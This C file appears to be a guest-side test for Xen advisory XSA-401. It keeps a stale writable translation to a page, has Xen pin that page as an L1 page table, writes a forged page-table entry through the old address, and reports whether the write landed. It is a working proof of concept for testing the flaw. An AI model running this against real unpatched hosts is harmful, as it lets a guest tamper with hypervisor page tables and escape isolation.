/*
 * XSA-401 (2022): a frame may become a page table only after every writable translation of it has been flushed, and
 * the flush has to come after the change of type is visible. Here the guest keeps such a translation: it stores to a
 * page, drops the mapping without asking for a flush, has Xen make the page a table, and stores again.
 */
#include "guest.h"

void guest_main(const struct start_info *info)
{
    volatile uint64_t *window = page_alloc();
    uint64_t *page = page_alloc(), mfn = frame_number(page), other = frame_number(page_alloc());
    (void)info;

    print("XSA-401: a stale writable translation of a page table\n");
    print("  only the window maps the page writable = %d, %d\n", (int)remap(page, PTE_READONLY),
          (int)update_va_mapping((uint64_t)window, pte(mfn, PTE_KERNEL), UVMF_INVLPG));

    /* Nothing is printed until the second store: the console could evict the translation. */
    window[0] = 0;
    long unmapped = update_va_mapping((uint64_t)window, 0, UVMF_NONE);
    long pinned = mmuext_op(MMUEXT_PIN_L1_TABLE, mfn);
    unsigned faults = FAULTS("mov %[v], (%[va])", : : [v] "r"(pte(other, PTE_P | PTE_RW | PTE_US)), [va] "r"(window));

    print("  unmapped without a flush = %d, pinned as an L1 table = %d\n", (int)unmapped, (int)pinned);
    print("  the store through the old address: %u fault\n", faults);
    print(page[0] ? "landed in a live page table\n" : "refused\n");
}
